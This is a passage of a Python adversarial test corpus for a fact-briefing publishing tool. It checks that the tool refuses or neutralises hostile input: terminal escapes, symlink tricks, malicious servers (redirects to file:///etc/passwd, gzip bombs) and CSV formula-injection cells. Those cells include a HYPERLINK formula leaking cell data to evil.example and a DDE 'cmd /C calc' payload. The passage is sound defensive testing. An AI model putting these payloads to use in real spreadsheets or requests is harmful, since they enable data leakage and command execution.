                2, toml('[lint]\ndisable = ["SRC099", "unused-sourc", "SRC002"]\n')),
    CommandCase("reading-code-in-disable", "Configuration", ("lint",),
                ("briefings.toml:2: [lint] disable: SCH001 (unknown-key) is found while reading files and cannot "
                 "be disabled; fix the file instead",), 2, toml('[lint]\ndisable = ["SCH001"]\n')),
    CommandCase("firm-rule-in-disable", "Configuration", ("lint",),
                ("briefings.toml:2: [lint] disable: FCT009 (bad-short-answer) cannot be disabled: the short answer is "
                 "what readers see first, and it would show a superseded fact as the answer now, another page's "
                 "fact, or one fact twice, so it stays an error; name this briefing's current facts, each once",),
                2, toml('[lint]\ndisable = ["bad-short-answer"]\n')),
    CommandCase("disable-not-a-list", "Configuration", ("lint",),
                ("briefings.toml:2: [lint] 'disable' must be a list of strings, found \"SRC002\"; e.g. disable = []",),
                2, toml('[lint]\ndisable = "SRC002"\n')),
    CommandCase("misspelled-table", "Configuration", ("lint",),
                ("briefings.toml:1: unknown table [projet]; did you mean [project]?",), 2,
                toml('[projet]\ntitle = "Bridges"\n')),
    CommandCase("setting-outside-its-table", "Configuration", ("lint",),
                ("briefings.toml:1: unknown table [title]; 'title' belongs under [project]",), 2,
                toml('title = "Bridges"\n')),
    CommandCase("misspelled-setting", "Configuration", ("lint",),
                ("briefings.toml:2: [project] unknown setting 'titel'; did you mean 'title'?",), 2,
                toml('[project]\ntitel = "Bridges"\n')),
    CommandCase("setting-of-wrong-type", "Configuration", ("lint",),
                ("briefings.toml:2: [project] 'snapshots' must be a string, found 3; e.g. snapshots = "
                 "\"../shared/seeds\"",), 2, toml("[project]\nsnapshots = 3\n")),
    CommandCase("control-character-in-title", "Configuration", ("lint",),
                ("briefings.toml:2: [project] 'title' contains U+001B (ESCAPE, control character) at character 8; "
                 "delete it",), 2, toml('[project]\ntitle = "Bridges\\u001b[2J"\n')),
    CommandCase("invalid-toml", "Configuration", ("lint",),
                ("briefings.toml:2:9: invalid TOML: Expected ']' at the end of a table declaration",), 2,
                toml("# settings\n[project\n")),
    CommandCase("config-not-utf8", "Configuration", ("lint",),
                ("briefings.toml:1: invalid UTF-8 byte 0xe9; save the file as UTF-8",), 2,
                {"briefings.toml": b'[project]\ntitle = "Caf\xe9"\n'}),
)


HOSTILE_SNAPSHOT = "The minister said the bridge would\x1b[2J\u202e reopen in May.\n"


def _hostile_snapshot(root: Path, scratch: Path) -> None:
    """A snapshot whose text holds escape sequences and a bidirectional override, cited with a wrong quote."""
    (scratch / "bridge.txt").write_text(HOSTILE_SNAPSHOT, encoding="utf-8")
    sha = hashlib.sha256(HOSTILE_SNAPSHOT.encode()).hexdigest()
    (root / S).write_text(SOURCE_YAML.replace(SNAPSHOT_SHA, sha), encoding="utf-8")
    (root / B).write_text(BRIEFING_YAML.replace('"the bridge would reopen in May"', '"the bridge will reopen"'),
                          encoding="utf-8")


COMMAND_CASES += (
    CommandCase("escape-sequences-in-snapshot-text", "Messages", ("lint", "--snapshots", "{scratch}"), (
        "briefings/bridge.yaml:12:20: error CIT003 quote not found in snapshot of 'city-herald-2024'; closest "
        "passage: \"the bridge would\\x1b[2J\" (quote has \"will reopen\" where the snapshot has "
        "\"would\\x1b[2J\") (quote-not-in-snapshot)",
        "1 error, 0 warnings in 2 files (1 source, 1 briefing, 1 fact, 1 citation)"), 1, setup=_hostile_snapshot),
)


def _fifo(root: Path, scratch: Path) -> None:
    os.mkfifo(root / "briefings/pipe.yaml")


def _sparse(root: Path, scratch: Path) -> None:
    with (root / "sources/huge.yaml").open("wb") as handle:
        handle.truncate(3 * 1024**3)  # 3 GiB that take no space: read whole, they would take 3 GiB of memory


def _loop(root: Path, scratch: Path) -> None:
    (root / "sources/loop.yaml").symlink_to("loop.yaml")


def _dangling(root: Path, scratch: Path) -> None:
    (root / "sources/gone.yaml").symlink_to(scratch / "gone.yaml")


def _folder(root: Path, scratch: Path) -> None:
    (root / "briefings/archive.yaml").mkdir()


def _damaged_caches(root: Path, scratch: Path) -> None:
    """Fill the cache with a lint, then damage every entry: invalid UTF-8, and valid JSON of another shape."""
    from build_tools.config import load_config
    from build_tools.lint import lint_project

    lint_project(load_config(root, str(root.parent / "snaps"), environ={}))
    for number, entry in enumerate(sorted((root / "build/cache").rglob("*.json"))):
        entry.write_bytes(b"\xff\xfe\x00 not utf-8" if number % 2 else b'{"fields": 1, "problems": [["a"]]}')


SUMMARY_CLEAN = "0 errors, 0 warnings in 2 files (1 source, 1 briefing, 1 fact, 1 citation)"
COMMAND_CASES += (
    # Files that are not what they seem: examined before reading, never read whole or blocked on.
    CommandCase("named-pipe", "Files", ("lint",), (
        "briefings/pipe.yaml:1:1: error YML009 file is a named pipe (FIFO), not a regular file; remove it or give "
        "it another name (unreadable-file)",
        "1 error, 0 warnings in 3 files (1 source, 1 briefing, 1 fact, 1 citation)"), 1, setup=_fifo),
    CommandCase("three-gigabyte-file", "Files", ("lint",), (
        "sources/huge.yaml:1:1: error YML007 file is 3,221,225,472 bytes, over the limit of 8,388,608; split it "
        "into several files (file-too-large)",
        "1 error, 0 warnings in 3 files (1 source, 1 briefing, 1 fact, 1 citation)"), 1, setup=_sparse),
    CommandCase("symlink-loop", "Files", ("lint",), (
        "sources/loop.yaml:1:1: error YML009 file is a symbolic link that leads to a loop; replace it with the "
        "file itself or remove it (unreadable-file)",
        "1 error, 0 warnings in 3 files (1 source, 1 briefing, 1 fact, 1 citation)"), 1, setup=_loop),
    CommandCase("dangling-symlink", "Files", ("lint",), (
        "sources/gone.yaml:1:1: error YML009 file is a symbolic link that leads to nothing; replace it with the "
        "file itself or remove it (unreadable-file)",
        "1 error, 0 warnings in 3 files (1 source, 1 briefing, 1 fact, 1 citation)"), 1, setup=_dangling),
    CommandCase("folder-named-yaml", "Files", ("lint",), (
        "briefings/archive.yaml:1:1: error YML009 file is a folder, not a regular file; remove it or give it "
        "another name (unreadable-file)",
        "1 error, 0 warnings in 3 files (1 source, 1 briefing, 1 fact, 1 citation)"), 1, setup=_folder),
    CommandCase("damaged-cache-entries", "Files", ("lint",), (SUMMARY_CLEAN,), 0, setup=_damaged_caches),
)


MKDOCS = {"mkdocs.yml": b"site_name: Bridges\n"}


def _old_site(root: Path, scratch: Path) -> None:
    (root / "published").mkdir()
    (root / "published/index.html").write_text("<h1>hand-made</h1>\n", encoding="utf-8")


def _link_to_docs(root: Path, scratch: Path) -> None:
    (root / "docs").mkdir()
    (root / "site").symlink_to("docs")


def _a_file(root: Path, scratch: Path) -> None:
    (root / "notes.txt").write_text("mine\n", encoding="utf-8")


def refused(name: str, argv: tuple[str, ...], line: str, files: Mapping[str, bytes] = MKDOCS,
            setup: Callable[[Path, Path], None] | None = None) -> CommandCase:
    return CommandCase(name, "Output paths", argv, (line,), 2, files, setup)


COMMAND_CASES += (
    # Output paths: nothing replaces or fills the project, its hand-written folders, .git or the snapshot
    # store, nor a folder that is not a previous build of ours.
    refused("site-into-docs", ("site", "--out", "docs"), "briefings: refusing to write to 'docs': it is the "
            "project's docs/ folder; choose another --out"),
    refused("site-into-the-project", ("site", "--out", "."), "briefings: refusing to write to '.': it is the "
            "project; choose another --out"),
    refused("site-around-the-project", ("site", "--out", ".."), "briefings: refusing to write to '..': it contains "
            "the project; choose another --out"),
    refused("site-into-git", ("site", "--out", ".git"), "briefings: refusing to write to '.git': it is the "
            "project's .git/ folder; choose another --out"),
    refused("site-inside-sources", ("site", "--out", "sources/site"), "briefings: refusing to write to "
            "'sources/site': it lies inside the project's sources/ folder; choose another --out"),
    refused("site-into-the-snapshot-store", ("site", "--out", "../snaps"), "briefings: refusing to write to "
            "'../snaps': it is the snapshot store; choose another --out"),
    refused("site-through-a-link-to-docs", ("site",), "briefings: refusing to write to 'site': it is the "
            "project's docs/ folder; choose another --out", setup=_link_to_docs),
    refused("site-over-a-folder-not-ours", ("site", "--out", "published"), "briefings: refusing to write to "
            "'published': it exists and holds no .briefings-site, so it is not a previous build of ours; remove it "
            "yourself or choose another --out", setup=_old_site),
    refused("site-over-a-file", ("site", "--out", "notes.txt"), "briefings: refusing to write to 'notes.txt': it "
            "is a file, not a folder; choose another --out", setup=_a_file),
    refused("build-into-docs", ("build", "--out", "docs"), "briefings: refusing to write to 'docs': it is the "
            "project's docs/ folder; choose another --out"),
    refused("build-over-briefings", ("build", "--out", "briefings"), "briefings: refusing to write to 'briefings': "
            "it is the project's briefings/ folder; choose another --out"),
    refused("build-over-a-folder-not-ours", ("build", "--out", "published"), "briefings: refusing to write to "
            "'published': it exists and holds no .briefings-generated, so it is not a previous build of ours; remove "
            "it yourself or choose another --out", setup=_old_site),
    refused("output-setting-into-docs", ("build",), "briefings: refusing to write to 'docs': it is the project's "
            "docs/ folder; choose another [project] output", toml('[project]\noutput = "docs"\n')),
    refused("export-over-a-source", ("export", "--out", "sources/city-herald-2024.yaml"), "briefings: refusing to "
            "write to 'sources/city-herald-2024.yaml': it lies inside the project's sources/ folder; choose another "
            "--out"),
    refused("schema-into-sources", ("schema", "--out", "sources"), "briefings: refusing to write to "
            "'sources/source.schema.json': it lies inside the project's sources/ folder; choose another --out"),
    refused("bench-over-the-project", ("bench", "--keep", "."), "briefings: refusing to write to '.': it exists and "
            "holds no .briefings-bench, so it is not a previous build of ours; remove it yourself or choose another "
            "--keep"),
)


def _dangling_source(root: Path, scratch: Path) -> None:
    (root / "sources/new-one.yaml").symlink_to(scratch / "outside.yaml")


def _dangling_briefing(root: Path, scratch: Path) -> None:
    (root / "briefings/roads.yaml").symlink_to(scratch / "outside.yaml")


def _sources_elsewhere(root: Path, scratch: Path) -> None:
    shutil.rmtree(root / "sources")
    (scratch / "elsewhere").mkdir()
    (root / "sources").symlink_to(scratch / "elsewhere")


def _briefing_elsewhere(root: Path, scratch: Path) -> None:
    (root / "briefings/bridge.yaml").rename(scratch / "bridge.yaml")
    (root / "briefings/bridge.yaml").symlink_to(scratch / "bridge.yaml")


COMMAND_CASES += (
    # Writing through symlinks: new files are created whole and exclusively, never through a link, and
    # only in folders that resolve inside the project (as for reading).
    CommandCase("new-source-over-a-dangling-link", "Symbolic links", ("new", "source", "new-one"),
                ("briefings new: sources/new-one.yaml already exists; edit it instead",), 2,
                setup=_dangling_source),
    CommandCase("new-briefing-over-a-dangling-link", "Symbolic links", ("new", "briefing", "roads"),
                ("briefings new: briefings/roads.yaml already exists; edit it instead",), 2,
                setup=_dangling_briefing),
    CommandCase("new-source-in-a-folder-linked-elsewhere", "Symbolic links", ("new", "source", "new-one"),
                ("briefings new: {root}/sources resolves outside the project (to {scratch}/elsewhere); replace the "
                 "symbolic link with a folder",), 2, setup=_sources_elsewhere),
    CommandCase("new-fact-in-a-briefing-linked-elsewhere", "Symbolic links", ("new", "fact", "bridge"),
                ("briefings new: {root}/briefings/bridge.yaml resolves outside the project (to "
                 "{scratch}/bridge.yaml); replace the symlink with the file",), 2, setup=_briefing_elsewhere),
)


def archive(path: str, *lines: str, code: int = 1) -> CommandCase:
    """`briefings archive` against one path of the hostile server (tests/hostile_server.py)."""
    return CommandCase(path.strip("/"), "Hostile servers", ("archive", "market", "--url", f"{{server}}{path}",
                                                           "--timeout", "1"), lines, code)


COMMAND_CASES += (
    # Hostile servers: one deadline for the whole fetch, http(s)-only redirects, every misbehaviour
    # an archive error with exit 1.
    archive("/trickle-body", "briefings archive: gave up on {server}/trickle-body after 1 s: the server is too slow"),
    archive("/trickle-headers",
            "briefings archive: gave up on {server}/trickle-headers after 1 s: the server is too slow"),
    archive("/redirect-ftp", "briefings archive: {server}/redirect-ftp redirects to 'ftp://127.0.0.1/article.html', "
            "which is not an http(s) address; refused"),
    archive("/redirect-file", "briefings archive: {server}/redirect-file redirects to 'file:///etc/passwd', which "
            "is not an http(s) address; refused"),
    archive("/redirect-credentials", "briefings archive: {server}/redirect-credentials redirects to "
            "'http://user:secret@127.0.0.1/article', which is refused: URL 'http://user:secret@127.0.0.1/article' "
            "contains a user name or password; remove the 'user@' part"),
    archive("/redirect-loop", "briefings archive: could not fetch {server}/redirect-loop: more than 5 redirects, "
            "or a redirect loop"),
    archive("/unknown-charset", "briefings archive: {server}/unknown-charset declares the character set "
            "'x-no-such-charset', which is unknown; save the page as UTF-8 and use `briefings snapshot add`"),
    archive("/binary-charset", "briefings archive: {server}/binary-charset declares the character set 'rot13', "
            "which is unknown; save the page as UTF-8 and use `briefings snapshot add`"),
    archive("/pdf", "briefings archive: {server}/pdf is application/pdf, not a web page; archive the article's "
            "HTML page"),
    archive("/huge", "briefings archive: {server}/huge is larger than 10,485,760 bytes"),
    archive("/gzip-bomb", "briefings archive: {server}/gzip-bomb is larger than 10,485,760 bytes once "
            "decompressed"),
    archive("/brotli", "briefings archive: {server}/brotli was sent with the 'br' encoding, which was not asked "
            "for"),
    archive("/cut-short", "briefings archive: could not fetch {server}/cut-short: the connection closed after 40 "
            "bytes of the page"),
    archive("/not-http", "briefings archive: could not fetch {server}/not-http: the server's response is not "
            "valid HTTP (BadStatusLine: 'hello, this is not HTTP')"),
    archive("/escape-in-reason", "briefings archive: could not fetch {server}/escape-in-reason: HTTP 500 "
            "\\x1b[2J\\x1b[31mBroken"),
    archive("/no-article", "briefings archive: no article text found at {server}/no-article"),
)


# A text (fact, section title, outlet) and the CSV cell it becomes: whatever a spreadsheet could read as
# the start of a formula gets a leading apostrophe (OWASP); the JSON keeps the text as written.
CSV_CASES: tuple[tuple[str, str], ...] = (
    ('=HYPERLINK("https://evil.example/?"&A1, "Click")', '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'),
    ("+1 more contact, the ministry said", "'+1 more contact, the ministry said"),
    ("-5% of the budget, according to the ministry", "'-5% of the budget, according to the ministry"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\uff1d1+1, in full-width characters", "'\uff1d1+1, in full-width characters"),
    ("The minister said =1+1 in the middle.", "The minister said =1+1 in the middle."),
)


def _command_rows(category: str) -> list[str]:
    lines = ["", f"### {category}", "", "| case | command | exit | expected output |", "|---|---|---|---|"]
    for case in (c for c in COMMAND_CASES if c.category == category):
        shown = "<br>".join(f"`{line.replace('|', '&#124;')}`" for line in case.expected)
        lines.append(f"| {case.name} | `briefings {' '.join(case.argv)}` | {case.code} | {shown} |")
    return lines


def render_page() -> str:
    lines = [
        "# Reliability",
        "",
        "What the test suite proves about bad input, generated from the adversarial corpus in "
        "`tests/corpus.py` (`python -m tests.corpus` rewrites this page; a test fails when it is stale).",
        "",
        "## Every hostile input gets its place, a code and a message",
        "",
        f"Each of these {len(CASES)} files makes `briefings lint` exit 1 with exactly the line shown "
        "(`tests/test_corpus.py`).",
    ]
    for category in dict.fromkeys(c.category for c in CASES):
        lines += ["", f"### {category}", "", "| case | expected output |", "|---|---|"]
        for case in (c for c in CASES if c.category == category):
            shown = "<br>".join(f"`{line.replace('|', '&#124;')}`" for line in case.expected)
            lines.append(f"| {case.name} | {shown} |")
    lines += [
        "",
        "## Every hostile setting, path and environment gets one line and its exit code",
        "",
        f"Each of these {len(COMMAND_CASES)} commands, run in a project prepared as named, prints exactly the "
        "lines shown (no traceback) and exits with the code shown: 1 for problems in the content or from a "
        "server, 2 for usage, configuration and environment errors (`tests/test_corpus.py`).",
    ]
    for category in dict.fromkeys(c.category for c in COMMAND_CASES):
        lines += _command_rows(category)
    lines += [
        "",
        "## Spreadsheet formulas in the CSV",
        "",
        "Each text, written as a fact, a section title and an outlet, becomes this cell in "
        "`data/briefings/<id>.csv` (`tests/test_outputs.py`); the JSON export keeps it as written.",
        "",
        "| text | CSV cell |",
        "|---|---|",
        *(f"| `{text.replace('|', '&#124;')}` | `{cell.replace('|', '&#124;')}` |" for text, cell in CSV_CASES),
        "",
        "## Output paths",
        "",
        "- Per-item outputs live in their own folders (`briefings/<id>.md`, `sources/<id>.md`, "
        "`data/briefings/<id>.json` and `.csv`), where no fixed output is, or carry a prefix no fixed output "
        "has (`feed-<id>.xml`), and ids hold no `/` or `.`: briefings and sources named `briefings`, "
        "`annotations`, `sources`, `index`, `data`, `schemas`, `feed`, `corrections`… take no other "
        "output, for any set of ids (Hypothesis); `generate` refuses two outputs at one path, and the MkDocs "
        "hook refuses a hand-written page that MkDocs would publish where a generated one goes "
        "(`tests/test_outputs.py`).",
    ]
    lines += [
        "",
        "## Properties and fuzzing",
        "",
        "- For any text in a fact, lint accepts it or reports a problem with a place and a code, and never "
        "raises; for any accepted title, summary and fact text, the **whole** page (front matter read by "
        "MkDocs's own reader, then the body) renders as exactly that text, with no element, attribute or "
        "`javascript:` link it did not contain (Hypothesis, `tests/test_hardening.py`).",
        "- Front matter is one line of ASCII-escaped YAML per value: it reads back as written for any string "
        "at all, noncharacters, controls and astral characters included (Hypothesis); `front_matter` checks "
        "its own output, and the MkDocs hook stops the build if a generated page's front matter did not parse.",
        "- Every scalar field of both file formats refuses a noncharacter, a format character (U+061C, tag "
        "characters, interlinear annotation), private use, ESC and a paragraph separator, naming the "
        "character (`tests/test_hardening.py`); no output format (text, github, json, sarif) lets a control "
        "character from a key or a file name through.",
        "- In Chromium, a page whose title, summary, section and fact are Markdown links to `javascript:`, "
        "attribute lists with `onfocus`/`autofocus` and raw HTML opens no dialog when loaded, tabbed through "
        "or hovered, and has no `javascript:` link (`tests/test_browser.py`).",
        "- Random bytes and mutated source and briefing files never crash the reader, each in under a "
        "second, and the command exits 0 or 1, never with a traceback.",
        "- For random snapshots, a quote that starts and ends on whole words (retyped with plain quotes, dashes "
        "and spaces) is found, and readers are shown the snapshot's own characters for it; a quote that cuts a "
        "word or a figure is never found at the cut (Hypothesis, `tests/test_snapshots.py`).",
        "- A damaged or tampered cache entry (a quote placement, a validated file) is recomputed: never a crash, "
        "never a pass (`tests/test_file_cache.py`); a value read back from the cache must pass exactly the checks "
        "a freshly validated one passes (Hypothesis, `tests/test_schema.py`).",
        "- HTML, Markdown links and images, `javascript:` links, footnote syntax, attribute lists, "
        "snippet and macro syntax, headings, block quotes, list markers, table pipes, entities and the "
        "footnote placeholder in fact text render as literal characters (`tests/test_site.py`); page "
        "titles and descriptions are escaped in the page head.",
        "",
        "## Builds",
        "",
        "- A failed build (a lint error, a MkDocs error, a full disk while writing) leaves the previous "
        "site and generated pages untouched: pages are staged and renamed into place only when all are "
        "written; `briefings site` builds under `build/site-staging/` and swaps the folders with one atomic "
        "exchange.",
        "- `briefings site` killed with SIGKILL (with its MkDocs child) at 30 random moments of a build leaves, "
        "every time, a `site/` that is exactly one of the two complete sites and nothing new in `git status`; "
        "the next run removes what the killed ones left (`tests/test_site_swap.py`). Four concurrent builds "
        "all succeed; the site honours the umask (0755/0644 under umask 022); a previous site left aside by a "
        "kill between two renames (where the exchange is unavailable) is put back.",
        "- A full disk, a read-only folder or a denied permission while writing is one line naming the path, "
        "exit 2; `briefings rules | head` ends quietly; `make serve PORT=…` picks the port, and a taken port "
        "is one line, exit 2 (`tests/test_serve.py`).",
        "- Two builds of the same commit are byte-identical, sitemap included (`SOURCE_DATE_EPOCH` is "
        "honoured, every listing is sorted).",
        "- An unexpected exception is reported as an internal error, exit code 2, naming the file only "
        "when it happened while reading that file (never a stale \"current file\").",
    ]
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    target = Path(__file__).resolve().parent.parent / "docs/reliability.md"
    target.write_text(render_page(), encoding="utf-8")
    print(f"wrote {target}")
